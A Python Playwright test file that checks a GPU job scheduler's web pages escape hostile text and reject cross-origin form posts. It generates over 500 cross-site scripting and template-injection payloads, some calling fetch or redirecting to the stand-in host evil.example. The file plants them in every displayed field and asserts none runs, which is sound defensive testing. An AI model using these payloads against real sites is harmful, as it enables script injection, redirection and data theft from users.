"""Injection attempts through every field that a page shows, in a real browser."""

from __future__ import annotations

from collections.abc import Awaitable, Callable, Iterator
from itertools import product

import pytest
from playwright.async_api import expect

from benchpool_scheduler.contract import (
    Attempt,
    GpuState,
    Job,
    Lease,
    Preemption,
    Progress,
    ProjectQuota,
    State,
)
from benchpool_scheduler.service import Caller
from benchpool_scheduler.web.job_rows import SHOWN
from benchpool_scheduler.web.jobs_page import PAGE
from benchpool_support.browser import Seen
from benchpool_support.stage import NOW, StagedPool, gpu, job, reason

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.slow]

Visit = Callable[..., Awaitable[Seen]]

ACTS = (
    "window.hit=1",
    "window['hit']=1",
    "fetch('//evil.example/')",
    "top.location='//evil.example'",
)
OPENERS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    "</svg>",
    "</bdi></a>",
)
BODIES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script href=data:,{} />",
    "<iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>",
    "<a href=javascript:{}>x</a>",
    "<style>@import '//evil.example/?{}'</style>",
    "<base href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/?{}'>",
    "<form action=//evil.example/?{}><input autofocus onfocus={}>",
    '" autofocus onfocus="{}" x="',
    "{{{{ {} }}}}{{% {} %}}${{{}}}",
)


def payloads() -> Iterator[str]:
    """Yield more than 500 texts: every escape from a context with every action."""
    for opener, body, act in product(OPENERS, BODIES, ACTS):
        yield opener + body.format(act, act, act)


PAYLOADS = list(payloads())


def hostile(number: int, state: State) -> Job:
    text = PAYLOADS[number % len(PAYLOADS)]
    return job(
        text,
        state,
        id=f"{number:026}",
        user="susan",
        project=text,
        reason=reason(text, text, code=text),
        progress=Progress(0.5, text, NOW),
        preemptions=[Preemption(NOW, text, text, 1.0, None)],
        ended=NOW if state is State.FAILED else None,
    )


def fill(staged: StagedPool) -> None:
    """Put payloads into every field of the staged pool."""
    states = [State.QUEUED, State.RUNNING, State.PAUSED, State.FAILED]
    staged.add(*(hostile(number, states[number % 4]) for number in range(len(PAYLOADS))))
    staged.gpus = [
        gpu(
            number,
            list(GpuState)[number % len(GpuState)],
            node=PAYLOADS[number],
            model=text,
            uuid=text,
            user=text,
            server=text,
            job=f"{number:026}" if number % 2 else None,
            note=text,
        )
        for number, text in enumerate(PAYLOADS[:40])
    ]
    staged.held_leases = [Lease("a" * 26, text, text, "s", [text], NOW) for text in PAYLOADS[:40]]
    staged.build_quotas = dict.fromkeys(PAYLOADS[:40], 2)
    staged.projects = [ProjectQuota(text, 1, 1, 1, None, 0) for text in PAYLOADS[:40]]
    staged.text = PAYLOADS[0]
    staged.problems = PAYLOADS[:20]
    staged.would_start_with = PAYLOADS[3]
    for one in staged.held_jobs.values():
        staged.starts[one.id] = [Attempt(1, NOW, NOW, 1, PAYLOADS[5], [PAYLOADS[6]], [PAYLOADS[7]])]


async def unharmed(seen: Seen) -> None:
    """Assert that no payload ran, no policy was violated and no other host was requested."""
    page = seen.page
    await page.wait_for_timeout(200)
    assert await page.evaluate("typeof window.hit") == "undefined"
    assert seen.violations == []
    assert seen.faults == []
    assert all(one.startswith(seen.url) for one in seen.requests)
    assert page.url.startswith(seen.url)


async def test_hostile_corpus_has_500_texts() -> None:
    assert len(set(PAYLOADS)) >= 500


@pytest.mark.parametrize("scripts", [True, False])
async def test_hostile_texts_in_every_field_are_escaped(
    visit: Visit, staged: StagedPool, scripts: bool
) -> None:
    fill(staged)
    seen = await visit("ada", java_script_enabled=scripts)
    await expect(seen.page.locator("#queue tbody tr")).to_have_count(SHOWN)
    shown = await seen.page.locator("#queue tbody th .name").all_text_contents()
    assert set(shown) <= set(PAYLOADS)
    if scripts:
        await unharmed(seen)


@pytest.mark.parametrize("scripts", [True, False])
async def test_hostile_texts_on_job_list_are_escaped(
    visit: Visit, staged: StagedPool, scripts: bool
) -> None:
    fill(staged)
    shown: list[str] = []
    for offset in range(0, len(PAYLOADS), PAGE):
        seen = await visit("ada", f"jobs?offset={offset}", java_script_enabled=scripts)
        rows = seen.page.locator("#jobs tbody tr")
        await expect(rows).to_have_count(min(PAGE, len(PAYLOADS) - offset))
        shown += await seen.page.locator("#jobs tbody th .name").all_text_contents()
        if scripts:
            await unharmed(seen)
    assert sorted(shown) == sorted(PAYLOADS)


async def test_hostile_texts_from_updates_are_escaped(visit: Visit, staged: StagedPool) -> None:
    seen = await visit("ada")
    await expect(seen.page.locator("#live")).to_have_text("live")
    fill(staged)
    await staged.becomes(f"{0:026}", progress=None)
    await expect(seen.page.locator("#queue tbody tr")).to_have_count(SHOWN)
    await unharmed(seen)


async def test_hostile_texts_on_job_page_and_log_are_escaped(
    visit: Visit, staged: StagedPool
) -> None:
    fill(staged)
    one = f"{1:026}"
    log = "\n".join(PAYLOADS).encode()
    staged.log_bytes[one] = log[: len(log) // 2]
    seen = await visit("ada", f"jobs/{one}")
    await expect(seen.page.locator("#logstate")).to_have_text("Following.")
    await staged.write_log(one, log[len(log) // 2 :])
    await expect(seen.page.locator("#log")).to_contain_text(PAYLOADS[-1])
    assert (await seen.page.locator("#log").inner_html()).count("<") == 0
    await unharmed(seen)


async def test_hostile_refusal_messages_are_escaped(visit: Visit, staged: StagedPool) -> None:
    for text in PAYLOADS[:: len(PAYLOADS) // 5]:
        one = job(text, State.RUNNING, id="a" * 26)
        staged.held_jobs = {one.id: one}
        seen = await visit("susan")
        button = seen.page.get_by_role("button", name=f"Pause {text}", exact=True)
        await expect(button).to_be_visible()
        staged.add(job(text, State.SUCCEEDED, id="a" * 26))
        await button.click()
        await expect(seen.page.locator("#flash")).to_contain_text("there is nothing to pause")
        await unharmed(seen)
        await seen.page.context.close()


async def test_log_is_served_as_uninterpreted_plain_text(
    visit: Visit, staged: StagedPool, site: str
) -> None:
    staged.add(job("logged", State.RUNNING, id="b" * 26))
    staged.log_bytes["b" * 26] = b"<script>window.hit=1</script>"
    seen = await visit("susan")
    answer = await seen.page.request.get(
        f"{site}api/v1/jobs/{'b' * 26}/logs", headers={"X-XSRFToken": "token-of-susan"}
    )
    assert answer.headers["content-type"].startswith("text/plain")
    assert answer.headers["x-content-type-options"] == "nosniff"
    await seen.page.goto(f"{site}api/v1/jobs/{'b' * 26}/logs")
    assert await seen.page.evaluate("typeof window.hit") == "undefined"


async def test_cross_origin_request_with_cookie_is_rejected(
    visit: Visit, staged: StagedPool, site: str
) -> None:
    one = job("target", State.RUNNING, id="c" * 26)
    staged.add(one)
    seen = await visit("susan")
    other = site.replace("127.0.0.1", "localhost")
    await seen.page.context.add_cookies([{"name": "reader", "value": "joe", "url": other}])
    await seen.page.goto(f"{other}jobs/nonesuch")
    for token in ("token-of-susan", ""):
        await seen.page.evaluate(
            """([url, token]) => fetch(url, {method: "POST", mode: "no-cors",
                credentials: "include", body: new URLSearchParams({_xsrf: token})})
                .catch(() => null)""",
            [f"{site}jobs/{one.id}/cancel", token],
        )
    assert staged.asked == []
    assert staged.detail(Caller("susan"), one.id).job.state is State.RUNNING
